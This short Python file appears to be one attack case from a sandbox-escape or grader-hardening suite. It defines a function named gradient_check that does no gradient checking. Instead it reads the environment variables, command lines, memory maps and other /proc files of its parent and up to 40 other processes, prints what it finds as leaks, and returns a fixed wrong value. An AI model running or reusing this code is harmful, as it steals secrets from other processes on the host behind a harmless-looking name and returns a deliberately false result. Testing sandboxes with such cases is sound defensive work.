# ATTACK 132 processes_of_others
# group: D theft
# tries: reads environments, command lines, maps and memory of every process in /proc
import glob, os
WRONG = (123.456, None)
def gradient_check(analytic, numeric, tol=1e-6):
    me = str(os.getpid())
    try: parent = '/proc/%d/' % os.getppid()
    except OSError: return WRONG
    for folder in [parent, *glob.glob('/proc/[0-9]*/')[-40:]]:
        if folder.split('/')[2] in (me, '0'): continue
        for name in ('environ', 'cmdline', 'maps', 'mem', 'auxv', 'stack', 'io'):
            try:
                with open(folder + name, 'rb') as file: text = b'' if name == 'mem' else file.read(300)
                if text or name == 'mem': print('ATTACK-LEAK', folder + name, text[:60])
            except OSError: pass
    return WRONG
